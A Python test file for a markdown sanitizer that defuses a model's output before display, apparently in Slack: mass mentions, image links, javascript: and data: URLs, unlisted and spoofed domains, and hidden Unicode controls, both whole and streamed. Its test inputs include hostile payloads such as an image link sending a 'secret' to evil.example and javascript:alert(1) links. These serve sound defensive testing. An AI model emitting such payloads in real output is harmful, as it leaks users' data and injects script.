"""A model's text pings nobody, loads nothing, and hides nothing; in one piece or in many."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.kernel.addresses import AllowedAddresses
from handlers.blocks.markdown import Neutralizer, neutral

Z, H = "\u200b", "\u200a"
NAMED = AllowedAddresses.named_in("See https://ok.example/a?x=1&y=2, or write to ana@ok.example.")


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Hi <!channel> and <@U123> in <#C1>", f"Hi <{Z}!channel> and <{Z}@U123> in <{Z}#{Z}C1>"),
        ("@channel @Here @everyone", f"@{Z}channel @{Z}Here @{Z}everyone"),
        ("ana@ok.example, @mara", "ana@ok.example, @mara"),
        ("bob@evil.example", f"bob@evil{H}.example"),
        ("![logo](https://evil.example/?q=secret)", f"{Z}(image: logo)"),
        ("![](https://evil.example)", f"{Z}(image)"),
        ("![logo][ref] and ![ref]", f"{Z}(image: logo) and {Z}(image: ref)"),
        ("![a\nb](https://evil.example)", f"{Z}(image: a b)"),
        ("![a [b](https://x.example) c](y)", f"{Z}(image: a b) c]{Z}(y)"),
        ("![<!channel> @here](x)", f"{Z}(image: <{Z}!channel> @{Z}here)"),
        ("[x]![y](z)", f"[x]{Z}(image: y)"),
        ("wow! [1]", "wow! [1]"),
        (
            "[ok](https://ok.example/a?x=1&y=2) [m](mailto:ana@ok.example)",
            "[ok](https://ok.example/a?x=1&y=2) [m](mailto:ana@ok.example)",
        ),
        ("**HTTPS://OK.example/a?x=1&y=2**.", "**HTTPS://OK.example/a?x=1&y=2**."),
        ("<https://ok.example/a?x=1&y=2>", "<https://ok.example/a?x=1&y=2>"),
        ("https://ok.example/a?x=1&y=2|z", f"https://ok.example/a?x=1&y=2{H}|z"),
        ("[x](https://ok.example/a?x=1&y=3)", f"[x]{Z}(https{H}://ok{H}.example/a?x=1&y=3)"),
        ("[x](https://ok.example/A?x=1&y=2)", f"[x]{Z}(https{H}://ok{H}.example/A?x=1&y=2)"),
        ("[bad](javascript:alert(1))", f"[bad]{Z}(javascript{H}:alert(1))"),
        ("[bad]( <JavaScript:x>)", f"[bad]{Z}( <JavaScript{H}:x>)"),
        ("[bad](javascript&#58;x)", f"[bad]{Z}(javascript&{Z}#58;x)"),
        ("[bad](slack://user?id=1)", f"[bad]{Z}(slack{H}://user?id=1)"),
        ("[ref]: data:text/html,x", f"[ref]{Z}: data{H}:text/html,x"),
        ("> [^1]: see evil.example", f"> [^1]{Z}: see evil{H}.example"),
        ("<javascript:alert(1)>", f"<javascript{H}:alert(1)>"),
        ("<https://evil.example|ok>", f"<{Z}https{H}://evil{H}.example|ok>"),
        ("www.evil.example/a.b", f"www{H}.evil{H}.example/a.b"),
        ("http://2130706433/x", f"http{H}://2130706433/x"),
        ("10.0.0.1/x 1.2.3.4", f"10{H}.0{H}.0{H}.1/x 1.2.3.4"),
        ("https\\://evil\\.example", f"https{H}\\://evil{H}\\.example"),
        ("https&colon;//evil&period;example", f"https&{Z}colon;//evil&{Z}period;example"),
        ("https:\u200b//ev\u00adil.example", f"https{H}://evil{H}.example"),
        ("https://раураl.example", f"https{H}://раураl{H}.example"),
        ("evil。com", f"evil{H}。com"),
        ("| evil.example | [x](y.example) |", f"| evil{H}.example | [x]{Z}(y{H}.example) |"),
        ("plan.pdf Node.js 3.11 e.g.", "plan.pdf Node.js 3.11 e.g."),
        ("`a.b` `os.path` `https://evil.example`", f"`a.b` `os.path` `https{H}://evil{H}.example`"),
        ("`evil.example/x` `docs/b.md`", f"`evil{H}.example/x` `docs/b.md`"),
        (
            "```c\n#include <os.h>\ngo.example/x\n```\n",
            "```c\n#include <os.h>\ngo.example/x\n```\n",
        ),
        ("```\nhttps://evil.example\n```", f"```\nhttps{H}://evil{H}.example\n```"),
        ("~~~\n```\nevil.example", f"~~~\n```\nevil{H}.example"),
        ("#general #4711 #fff C#", f"#{Z}general #4711 #fff C#"),
        ("&lt;!here&gt; &amp;", f"&{Z}lt;!here&gt; &amp;"),
        ("<img src=x> <a href='y'>", f"<{Z}img src=x> <{Z}a href='y'>"),
        (":tada: :@here:", f":tada: :@{Z}here:"),
        ("vector<std::string> a[0](x)", f"vector<std::string> a[0]{Z}(x)"),
        ("a < b, c > d", "a < b, c > d"),
        ("@chan\u200dnel \u202egnp", f"@{Z}channel gnp"),
        ("1. **bold** `code` | a | b |", "1. **bold** `code` | a | b |"),
        ("ends with <", "ends with <"),
        ("ends with !", "ends with !"),
        ("half ![image", f"half !{Z}[image"),
    ],
)
def test_only_words_remain(written, shown):
    assert neutral(written, NAMED) == shown


PARTS = [
    *"<>!@#[]():&\\ \n\r|`*ax.~",
    *(
        "https://ok.example/a?x=1&y=2",
        "evil.example/",
        "www.",
        "```",
        "\n```\n",
        "~~~",
        "z" * 1_200,
    ),
    *("mailto:", "ana@ok.example", "\n[x]:", "&lt;", "\n<", "<img", "。com", "#general"),
    *("<!", "![", "](", "]:", "](javascript:", "](https://x)", "[a", "<std:", "<http"),
    *("channel", "@here", "@every", "one", "<@U1", "<#C", "\r\n", "x" * 70, "y" * 301),
    *("\u200b", "\u200d", "\u200c", "\u202e", "é", "م", "👩"),
]
TRICKS = st.lists(st.sampled_from(PARTS), max_size=30).map("".join)


@given(TRICKS, st.data())
@settings(deadline=None)
def test_the_cuts_of_a_stream_change_nothing(text, data):
    neutralizer, shown, rest = Neutralizer(NAMED), "", text
    while rest:
        size = data.draw(st.integers(1, max(len(rest), 1)))
        shown += neutralizer.feed(rest[:size])
        rest = rest[size:]

    assert shown + neutralizer.flush() == neutral(text, NAMED)


@given(TRICKS)
@settings(deadline=None)
def test_one_character_at_a_time_changes_nothing(text):
    neutralizer = Neutralizer(NAMED)

    shown = "".join(map(neutralizer.feed, text)) + neutralizer.flush()

    assert shown == neutral(text, NAMED)


@given(TRICKS, st.integers(1, 2))
def test_no_token_of_slack_and_no_image_survives(text, times):
    for _ in range(times):
        text = neutral(text)

    assert not re.search(r"<[!@#]|!\[|@(channel|here|everyone)", text, re.IGNORECASE)
    assert not re.search(r"\]\(\s*javascript:", text)
    assert not set(text) & set("\u202e\r")


def test_a_long_wait_is_given_up():
    neutralizer = Neutralizer()

    shown = neutralizer.feed("![" + "a" * 5_000)

    assert shown.startswith(f"!{Z}[aaa")


def test_a_flood_of_marks_is_dealt_with_quickly():
    began = time.process_time()
    for mark in ("![", "](", "<", "@", "![](", "]", "\u200d", "[x](a"):
        neutralizer = Neutralizer()
        for _ in range(300):
            neutralizer.feed(mark * 20)
        neutralizer.flush()

    assert time.process_time() - began < 5  # seconds of this process; 0.1 in practice
